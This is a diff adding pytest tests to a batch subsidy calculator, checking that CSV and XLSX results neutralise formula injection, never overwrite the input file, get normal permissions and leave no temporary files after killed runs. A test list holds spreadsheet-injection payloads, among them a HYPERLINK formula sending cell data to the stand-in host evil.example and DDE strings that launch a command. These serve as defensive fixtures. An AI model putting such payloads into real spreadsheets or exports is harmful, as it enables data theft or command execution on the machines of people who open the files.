@@ -96,3 +96,113 @@ def test_an_uncapped_amount_that_fits_is_still_computed_by_column() -> None:
     outcome = vector_set.evaluate(ENTRIES, KERNELS, WORKSTATION[1:4], [["是"], ["省级院士专家工作站"], ["40000000000000000"]])
     assert not outcome.scalar and outcome.total.tolist() == [8 * 10**18]
     assert batch.yuan_text(outcome.total.tolist()[0]) == "80000000000000000.00"
+
+
+# ── text from the applications never becomes a formula ──────────────────────────
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "=1+1", "#N/A"]
+
+
+def hostile_source(tmp_path: Path) -> Path:
+    rows = [["申请编号", "非政府性资金投资", "固定资产投资", "实际投资额"]]
+    rows += [[ident, "是", "2000万元", "2000万元"] for ident in HOSTILE]
+    return write_csv(tmp_path / "in.csv", rows)
+
+
+def test_csv_results_neutralise_cells_that_would_start_a_formula(tmp_path: Path) -> None:
+    rows = batch_both(tmp_path, hostile_source(tmp_path))
+    idents = [row[1] for row in rows[1:]]
+    assert idents == ["'" + HOSTILE[0], "'" + HOSTILE[1], "'" + HOSTILE[2], "'" + HOSTILE[3], "'=1+1", "#N/A"]
+    assert [row[2] for row in rows[1:]] == ["200000.00"] * 6  # 2000万元 × 1%, under the 50万元 cap
+
+
+def test_xlsx_results_hold_text_cells_never_formulas(tmp_path: Path) -> None:
+    import openpyxl
+
+    target = tmp_path / "out.xlsx"
+    assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(target),
+                     "--no-progress"]) == 0
+    book = openpyxl.load_workbook(target)  # formulas as formulas, not their cached values
+    sheet = book.worksheets[0]
+    cells = [sheet.cell(row=row, column=2) for row in range(2, 2 + len(HOSTILE))]
+    assert [cell.value for cell in cells] == HOSTILE
+    assert {cell.data_type for cell in cells} == {"s"}
+
+
+# ── the result file: never the input, normal permissions, no leftovers ────────────
+def test_the_output_may_not_be_the_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    source = hostile_source(tmp_path)
+    before = source.read_bytes()
+    assert cli.main(["batch", str(source), "--set", str(POLICY), "-o", str(tmp_path / "." / "in.csv"),
+                     "--no-progress"]) == 1
+    assert "结果文件不能是申请文件本身" in capsys.readouterr().err
+    assert source.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv"]
+
+
+def test_the_result_gets_the_permissions_of_any_new_file(tmp_path: Path) -> None:
+    import os
+    import stat
+
+    old = os.umask(0o022)
+    try:
+        assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(tmp_path / "out.csv"),
+                         "--no-progress"]) == 0
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "out.csv").stat().st_mode) == 0o644
+
+
+def test_temporary_files_of_killed_batches_are_removed_by_the_next(tmp_path: Path) -> None:
+    import fcntl
+    import os
+
+    stale = tmp_path / f".out.csv{batch.TEMPORARY}4242-deadbeef.tmp"
+    stale.write_text("half a result")
+    running = tmp_path / f".out.csv{batch.TEMPORARY}4343-cafecafe.tmp"  # another batch, still writing it
+    running.write_text("being written")
+    other = tmp_path / f".other.csv{batch.TEMPORARY}4444-0000ffff.tmp"  # another target's
+    other.write_text("not ours")
+    descriptor = os.open(running, os.O_RDONLY)
+    fcntl.flock(descriptor, fcntl.LOCK_EX)
+    try:
+        assert cli.main(["batch", str(hostile_source(tmp_path)), "--set", str(POLICY), "-o", str(tmp_path / "out.csv"),
+                         "--no-progress"]) == 0
+    finally:
+        os.close(descriptor)
+    assert not stale.exists() and running.exists() and other.exists()
+
+
+@pytest.mark.parametrize("how", ["SIGTERM", "SIGKILL"])
+def test_a_killed_batch_leaves_no_temporary_file(tmp_path: Path, how: str) -> None:
+    import signal
+    import subprocess
+    import sys
+    import time
+
+    rows = [["申请编号", "非政府性资金投资", "固定资产投资", "实际投资额"]]
+    rows += [[f"A{n}", "是", f"{n}万元", f"{n}万元"] for n in range(200_000)]
+    source = write_csv(tmp_path / "in.csv", rows)
+    target = tmp_path / "out.csv"
+    command = [sys.executable, "-m", "compiler.cli", "batch", str(source), "--set", str(POLICY), "-o", str(target),
+               "--no-progress", "--backend", "scalar"]
+    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as process:
+        try:
+            deadline = time.monotonic() + 60
+            while not list(tmp_path.glob(f".out.csv{batch.TEMPORARY}*.tmp")):
+                assert process.poll() is None and time.monotonic() < deadline
+                time.sleep(0.05)
+            process.send_signal(getattr(signal, how))
+            _, err = process.communicate(timeout=60)
+        finally:
+            if process.poll() is None:
+                process.kill()
+    if how == "SIGTERM":
+        assert process.returncode == 1 and "已中断" in err
+    else:  # nothing can clean up after SIGKILL: the next batch into the same file does
+        assert process.returncode == -signal.SIGKILL
+        small = write_csv(tmp_path / "small.csv", rows[:3])
+        assert cli.main(["batch", str(small), "--set", str(POLICY), "-o", str(target), "--no-progress"]) == 0
+        assert len(results(target)) == 3
+    assert not list(tmp_path.glob(".*.tmp"))
+    assert not target.exists() or how == "SIGKILL"
